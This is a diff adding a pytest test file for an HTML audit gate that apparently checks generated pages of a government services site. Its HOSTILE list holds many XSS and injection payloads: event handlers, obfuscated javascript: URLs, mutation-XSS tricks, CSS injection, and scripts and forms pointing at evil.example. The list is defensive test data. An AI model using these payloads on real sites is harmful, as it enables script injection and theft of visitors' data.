@@ -1,0 +1,300 @@
+"""The last gate: what it refuses, what it lets pass, and that its fast reader never knows better than the parser."""
+
+from __future__ import annotations
+
+import string
+from hashlib import sha256
+from typing import TYPE_CHECKING
+
+import pytest
+from html_judge import parse_errors
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from jendela.audit import RULES, Audit
+from jendela.audit.judge import Facts, Judge
+from jendela.audit.addresses import Site
+from jendela.audit.markup import is_tangled, readings
+from jendela.audit.plain import PlainReader
+from jendela.places import Place
+from jendela.problems import Problem, Severity
+
+if TYPE_CHECKING:
+    from collections.abc import Iterable
+
+FRAME_SCRIPT = "__scope=new URL('.',location);if(1<2&&3>2){document}"
+FRAME_STYLE = "@import url(https://fonts.example/x.css);"
+ALLOWED = {sha256(text.encode()).hexdigest() for text in (FRAME_SCRIPT, FRAME_STYLE)}
+FILES = {"assets/app.js", "assets/site.css", "assets/gambar besar.png", "assets/icons.svg", "assets/buku.pdf"}
+ORIGIN = "https://example.go.id"
+URL = "layanan/akta/"
+
+
+def page(body: str = "", head: str = "", html: str = '<html lang="id">', h1: str = "<h1>Akta</h1>") -> str:
+    return (
+        f'<!doctype html>\n{html}<head><meta charset="utf-8"><title>Akta &amp; kartu</title>{head}</head>'
+        f"<body><header><svg viewBox=\"0 0 24 24\"><path d=\"M0 0h1v1\"/></svg></header><main>{h1}\n{body}</main></body></html>"
+    )
+
+
+def judge(html: str, *, url: str = URL, parser_only: bool = False) -> list[Problem]:
+    audit = Audit(FILES, ORIGIN, "/jendela/", ALLOWED)
+    if parser_only:
+        audit._plain.read = lambda _: None  # type: ignore[method-assign]
+    audit.page("", page("<p id='atas'>"), ())
+    audit.page("layanan/", page('<h2 id="daftar">Daftar</h2><a name="lama">x</a>'), ())
+    audit.page(url, html, (Place("registry/services/akta.yaml", "/name"),))
+    return audit.finish()
+
+
+def rules(problems: Iterable[Problem]) -> set[str]:
+    return {problem.rule for problem in problems}
+
+
+HOSTILE = [
+    ("site-script", "<script>alert(1)</script>"),
+    ("site-script", "<SCRIPT>alert(1)</SCRIPT>"),
+    ("site-script", "<script >alert(1)</script >"),
+    ("site-script", "<script type=module>alert(1)</script>"),
+    ("site-script", '<script type="importmap">{"imports":{}}</script>'),
+    ("site-script", '<script type="speculationrules">{}</script>'),
+    ("site-script", '<script src="//evil.example/x.js"></script>'),
+    ("site-script", '<script src="https://evil.example/x.js"></script>'),
+    ("site-script", '<script src="../../assets/other.js"></script>'),
+    ("site-script", '<script src=""></script>'),
+    ("site-url", '<script src="data:text/javascript,alert(1)"></script>'),
+    ("site-script", '<script type="application/ld+json">{"a": }</script>'),
+    ("site-script", '<script type="application/json">' + "[" * 100_000 + "</script>"),
+    ("site-script", "<svg><script>alert&lpar;1)</script></svg>"),
+    ("site-script", '<svg><script href="https://evil.example/x.js"/></svg>'),
+    ("site-script", '<svg><script xlink:href="https://evil.example/x.js"/></svg>'),
+    ("site-script", f"<script>{FRAME_SCRIPT} </script>"),
+    ("site-script", "<p title='</p><script>alert(1)</script>'></p><script>x</script>"),
+    ("site-script", "<textarea></textarea><script>1</script>"),
+    ("site-script", "<!--><script>alert(1)</script>-->"),
+    ("site-script", "<!-- --!><script>alert(1)</script>-->"),
+    ("site-handler", "<p onclick=alert(1)>x</p>"),
+    ("site-handler", '<p onclick="alert(1)">x</p>'),
+    ("site-handler", '<p ONCLICK="alert(1)">x</p>'),
+    ("site-handler", "<p/onclick=alert(1)>x</p>"),
+    ("site-handler", '<img src="x"onerror="alert(1)">'),
+    ("site-handler", '<svg onload="alert(1)"></svg>'),
+    ("site-handler", '<svg><g onbegin="alert(1)"></g></svg>'),
+    ("site-handler", '<details open ontoggle="x"></details>'),
+    ("site-handler", '<p onanything="x"></p>'),
+    ("site-handler", '</main><body onload="alert(1)">'),
+    ("site-handler", "<p title='\"' onclick='x'>"),
+    ("site-handler", '<p title="a > b" onclick="x"></p>'),
+    ("site-handler", '<svg><style><img src=x onerror="alert(1)"></style></svg>'),
+    ("site-handler", '<math><mtext><p onclick="x"></p></mtext></math>'),
+    ("site-handler", '<title><script type="application/json">"</title><img src=x onerror=alert(1)>"</script>'),
+    (
+        "site-handler",
+        '<svg><desc><g></svg></g></desc><script type="application/json">"<img src=x onerror=alert(1)>"</script>',
+    ),
+    ("site-handler", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>'),
+    ("site-handler", '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p>'),
+    ("site-handler", '<!-- a --><img src=x onerror="1"><!-- b -->'),
+    ("site-url", '<a href="javascript:alert(1)">x</a>'),
+    ("site-url", '<a href=" JaVaScRiPt:alert(1)">x</a>'),
+    ("site-url", '<a href="java\nscript:alert(1)">x</a>'),
+    ("site-url", '<a href="java&#9;script:alert(1)">x</a>'),
+    ("site-url", '<a href="javascript&colon;alert(1)">x</a>'),
+    ("site-url", '<a href="&#1;javascript:alert(1)">x</a>'),
+    ("site-url", '<a href="vbscript:x">x</a>'),
+    ("site-url", '<a href="data:text/html,x">x</a>'),
+    ("site-url", '<a href="file:///etc/passwd">x</a>'),
+    ("site-url", '<a href="blob:https://x.example/1">x</a>'),
+    ("site-url", '<a href="https:///x">x</a>'),
+    ("site-url", '<a href="https:x">x</a>'),
+    ("site-url", '<a href="https://example.go.id@evil.example/">x</a>'),
+    ("site-url", '<area href="javascript:1">'),
+    ("site-url", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
+    ("site-url", '<form action="javascript:alert(1)"></form>'),
+    ("site-url", '<button formaction="javascript:alert(1)">x</button>'),
+    ("site-url", '<img src="data:image/png;base64,AAAA">'),
+    ("site-url", '<img srcset="../../assets/gambar%20besar.png 1x, data:image/png,x 2x">'),
+    ("site-url", '<meta http-equiv="refresh" content="0; url=javascript:alert(1)">'),
+    ("site-url", '<meta http-equiv="Refresh" content="0;data:text/html,x">'),
+    ("site-url", '<blockquote cite="javascript:1">x</blockquote>'),
+    ("site-style", '<p style="background: ex/**/pression(alert(1))">x</p>'),
+    ("site-style", '<p style="behavior: url(x.htc)">x</p>'),
+    ("site-style", '<p style="-moz-binding:url(x)">x</p>'),
+    ("site-style", '<p style="background:\\75rl(//evil.example)">x</p>'),
+    ("site-style", '<p style="background:image-set(\'https://evil.example/x\' 1x)">x</p>'),
+    ("site-style", "<style>@import 'https://evil.example/x.css'</style>"),
+    ("site-style", "<style>@import 'x.css'</style>"),
+    ("site-request", "<style>p{background:url(//evil.example/x)}</style>"),
+    ("site-request", "<style>p::before{content:'/*';background:url(//evil.example/x);content:'*/'}</style>"),
+    ("site-request", '<p style="background:url( \'https://evil.example/x\' )">x</p>'),
+    ("site-request", '<svg><path d="M0" fill="url(https://evil.example/x#y)"/></svg>'),
+    ("site-base", '<base href="https://evil.example/">'),
+    ("site-base", '<base target="x">'),
+    ("site-embed", '<iframe src="../../layanan/"></iframe>'),
+    ("site-embed", '<iframe srcdoc="x"></iframe>'),
+    ("site-embed", "<object data=x></object>"),
+    ("site-embed", "<embed src=x>"),
+    ("site-embed", "<applet></applet>"),
+    ("site-embed", "<template><p onclick=x></p></template>"),
+    ("site-embed", '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>'),
+    ("site-embed", '<svg><set attributeName="onclick" to="alert(1)"/></svg>'),
+    ("site-embed", "<plaintext>"),
+    ("site-form", '<form action="https://evil.example/"><input name="nik"></form>'),
+    ("site-form", '<input type="submit" formaction="//evil.example/">'),
+    ("site-request", '<img src="https://evil.example/x.png">'),
+    ("site-request", '<img src="//evil.example/x.png">'),
+    ("site-request", '<img src="\\\\evil.example/x.png">'),
+    ("site-request", '<img src="/\\evil.example/x.png">'),
+    ("site-request", '<img src="\t//evil.example/x.png">'),
+    ("site-request", '<img srcset="https://evil.example/x.png 2x">'),
+    ("site-request", '<img src="https://example.go.id.evil.example/x.png">'),
+    ("site-request", '<video poster="https://evil.example/x"></video>'),
+    ("site-request", '<audio src="https://evil.example/x"></audio>'),
+    ("site-request", '<video><source src="https://evil.example/x"><track src="https://evil.example/y"></video>'),
+    ("site-request", '<link rel="stylesheet" href="https://evil.example/x.css">'),
+    ("site-request", '<link rel="alternate stylesheet" href="https://evil.example/x.css">'),
+    ("site-request", '<link rel="preload" as="font" href="https://evil.example/x">'),
+    ("site-request", '<link rel="dns-prefetch" href="//evil.example">'),
+    ("site-request", '<link rel="icon" href="https://evil.example/x">'),
+    ("site-request", '<svg><use href="https://evil.example/x.svg#a"/></svg>'),
+    ("site-request", '<svg><image xlink:href="https://evil.example/x"/></svg>'),
+    ("site-request", '<table background="https://evil.example/x"></table>'),
+    ("site-request", '<a href="https://x.example/" ping="https://evil.example/">x</a>'),
+    ("site-request", '<input type="image" src="https://evil.example/x">'),
+    ("site-request", '<meta http-equiv="refresh" content="3;URL=\'https://evil.example/\'">'),
+    ("site-link", '<a href="../tidak-ada/">x</a>'),
+    ("site-link", '<a href="../../layanan">x</a>'),
+    ("site-link", '<a href="../../../lain/">x</a>'),
+    ("site-link", '<a href="/layanan/">x</a>'),
+    ("site-link", '<a href="/jendela">x</a>'),
+    ("site-link", '<a href="https://example.go.id/jendela/tidak-ada/">x</a>'),
+    ("site-link", '<link rel="canonical" href="https://example.go.id/jendela/tidak-ada/">'),
+    ("site-link", '<a href="..%2f">x</a>'),
+    ("site-link", '<a href="%ff%fe/">x</a>'),
+    ("site-anchor", '<a href="#tidak-ada">x</a>'),
+    ("site-anchor", '<a href="../#tidak-ada">x</a>'),
+    ("site-anchor", '<a href="https://example.go.id/jendela/layanan/#tidak">x</a>'),
+    ("site-asset", '<img src="../../assets/tidak-ada.png">'),
+    ("site-asset", '<img src="">'),
+    ("site-asset", '<img srcset="../../assets/tidak-ada.png 2x">'),
+    ("site-asset", '<link rel="stylesheet" href="/assets/site.css">'),
+    ("site-asset", '<p style="background:url(../../assets/tidak.png)">x</p>'),
+    ("site-duplicate-id", '<p id="a"></p><p id="a"></p>'),
+    ("site-heading-one", "<h1>Lagi</h1>"),
+    ("site-main", "</main>"),
+    ("site-heading-level", "<h3>Melompat</h3>"),
+    ("site-new-window", '<a href="https://x.example/" target="_blank">x</a>'),
+    ("site-new-window", '<a href="https://x.example/" target="lain" rel="nofollow">x</a>'),
+]
+HOSTILE = [row for row in HOSTILE if row[0] != "site-main"]
+
+
+@pytest.mark.parametrize("parser_only", [False, True], ids=["as-it-is", "parser"])
+@pytest.mark.parametrize(("rule", "fragment"), HOSTILE, ids=range(len(HOSTILE)))
+def test_what_is_hostile_or_broken_is_refused(rule: str, fragment: str, *, parser_only: bool) -> None:
+    problems = judge(page(fragment), parser_only=parser_only)
+    assert rule in rules(problems)
+    assert all(problem.place.path == "registry/services/akta.yaml" for problem in problems)
+
+
+FINE = [
+    "",
+    "<p>a &lt; b &amp; c > d “e” {{ f }} {% g %} ${h}</p>",
+    '<p title="a > b &amp;lt;script&gt;">x</p>',
+    "<p title='a \"b\"'>x</p>",
+    "<p title=a>x</p>",
+    "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript:alert(1) onclick=x</p>",
+    "<code>&lt;iframe src=//evil.example&gt;</code>",
+    '<textarea><script>alert(1)</script><p onclick="x"></textarea>',
+    '<!-- <script>alert(1)</script> <p onclick="x"> -->',
+    f"<script>{FRAME_SCRIPT}</script>",
+    f"<style>{FRAME_STYLE}</style>",
+    '<script src="../../assets/app.js"></script>',
+    '<script src="/jendela/assets/app.js?v=1" defer></script>',
+    '<script type="application/ld+json">{"a": "<p onclick=x>&amp;\\u003c/script>"}</script>',
+    '<script id="__config" type="application/json">{"base": "../.."}</script>',
+    '<a href="https://x.example/jalan?a=1&amp;b=2#c">x</a>',
+    '<a href="http://x.example">x</a>',
+    '<a href="HTTPS://X.EXAMPLE:8443/">x</a>',
+    '<a href="//x.example/">x</a>',
+    '<a href="mailto:kantor@example.go.id">x</a><a href="tel:+62561000">x</a><a href="geo:0,109.3">x</a>',
+    '<a href="sms:1234">x</a>',
+    '<a href="https://example.go.id/">x</a><a href="https://example.go.id/lain/">x</a>',
+    '<a href="">x</a><a href="#">x</a><a href="#top">x</a><a href="?q=1">x</a><a>x</a>',
+    '<a href=".">x</a><a href="./">x</a><a href="..">x</a><a href="../">x</a><a href="../..">x</a>',
+    '<a href="../../layanan/index.html">x</a><a href="/jendela/">x</a><a href="/jendela/index.html#atas">x</a>',
+    '<a href="../%61kta/">x</a><a href="../x/../akta/">x</a><a href="%2e%2e/">x</a>',
+    '<a href="../#daftar">x</a><a href="../#lama">x</a><a href="../?q#:~:text=x">x</a>',
+    '<h2 id="bawa apa">x</h2><a href="#bawa%20apa">x</a>',
+    '<a href="../../assets/buku.pdf#page=2">x</a>',
+    '<a href="../" target="_self">x</a><a href="https://x.example/" target="_blank" rel="noopener nofollow">x</a>',
+    '<img src="../../assets/gambar%20besar.png" srcset="../../assets/gambar%20besar.png 1.5x" alt="">',
+    '<img src="https://example.go.id/jendela/assets/gambar%20besar.png" alt="">',
+    '<svg role="img"><title>Judul</title><desc>Isi &amp; arti</desc><g id="g1"><path d="M0 0"/></g></svg>',
+    '<svg><linearGradient id="warna"><stop offset="0"/></linearGradient><path fill="url(#warna)" d="M0"/></svg>',
+    '<svg><use href="../../assets/icons.svg#rumah"/></svg><svg><symbol id="s"></symbol><use href="#s"/></svg>',
+    '<svg><foreignObject><p title="x">x</p></foreignObject></svg>',
+    "<math><mi>x</mi></math>",
+    '<p style="color: red; /* catatan */ width: 3em">x</p>',
+    '<p style="background: url(../../assets/gambar%20besar.png)">x</p>',
+    "<style>p > a { color: red }</style>",
+    '<form action=""><input name="q"></form><form><button>x</button></form><form action="../"></form>',
+    '<link rel="canonical" href="https://example.go.id/jendela/layanan/akta/">',
+    '<link rel="alternate " hreflang="en" href="../"><link rel="license" href="https://x.example/by">',
+    '<link rel="stylesheet" href="../../assets/site.css">',
+    '<meta http-equiv="refresh" content="0; url=../"><meta http-equiv="refresh" content="300">',
+    "<h2>a</h2><h3>b</h3><h4>c</h4><h2>d</h2>",
+    "<blockquote cite='https://x.example/'>x</blockquote>",
+    "<noscript><p>Halaman ini juga berjalan tanpa skrip.</p></noscript>",
+    "<select><option>a<option>b</select><ul><li>a<li>b</ul><table><tr><td>x</table>",
+    "<p>\r\nx\r\n</p>",
+    "<x-tab data-on='1' only='x' once>x</x-tab>"[:0] + "<x-tab data-on='1'>x</x-tab>",
+    "<p>\ufeff\u202e\x00x</p>",
+]
+
+
+@pytest.mark.parametrize("parser_only", [False, True], ids=["as-it-is", "parser"])
+@pytest.mark.parametrize("fragment", FINE, ids=range(len(FINE)))
+def test_what_is_strange_but_fine_stays_silent(fragment: str, *, parser_only: bool) -> None:
+    assert judge(page(fragment), parser_only=parser_only) == []
+
+
+def read_by_parser(html: str) -> list[Facts]:
+    own = Judge(Site(ORIGIN, "/jendela/"), ALLOWED)
+    return [own.facts(element) for reading in readings(html) for element in reading]
+
+
+def read_plainly(html: str) -> list[Facts] | None:
+    site = Site(ORIGIN, "/jendela/")
+    return PlainReader(site, Judge(site, ALLOWED)).read(html)
+
+
+PIECES = [
+    *(fragment for _, fragment in HOSTILE if len(fragment) < 500),
+    *FINE,
+    *"< > \" ' / = & ! - -- --> <!-- <! </ /> svg script style title textarea desc g p x".split(" "),
+    *("<svg>", "</svg>", "<title>", "</title>", "<desc>", "</desc>", "<g>", "</g>", "<p>", "</p>", "</script>"),
+    *('<a href="', '" onclick="x"', '"></a>', "<textarea>", "</textarea>", "<style>", "</style>", "<use ", "<SVG "),
+    *('<script type="application/json">', '"<img src=x onerror=x>"', "</SCRIPT >", "<foreignObject>", "<math>"),
+    *("<select>", "<table>", "<td>", "<b>", "</b>", "<noscript>", "</noscript>", "<![CDATA[", "]]>", "\n", " ", ";"),
+]
+
+
+@settings(max_examples=400, deadline=None, derandomize=True)
+@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
+def test_the_plain_reader_accepts_nothing_that_the_parser_refuses(fragment: str) -> None:
+    html = page(fragment)
+    plain = read_plainly(html)
+    if plain is None or any(facts.faults for facts in plain):
+        return
+    parsed = read_by_parser(html)
+    assert [facts.faults for facts in parsed if facts.faults] == []
+    assert {one for facts in parsed for one in facts.ids} <= {one for facts in plain for one in facts.ids}
+    assert {one for facts in parsed for one in facts.references} <= {one for facts in plain for one in facts.references}
+
+
+@settings(max_examples=300, deadline=None, derandomize=True)
+@given(st.text(alphabet=st.characters(codec=None) | st.sampled_from("<>\"'/=&!- "), max_size=200))
+def test_any_text_gets_an_answer(text: str) -> None:
+    for html in (text, page(text)):
+        assert all(problem.rule in {rule.id for rule in RULES} for problem in judge(html))
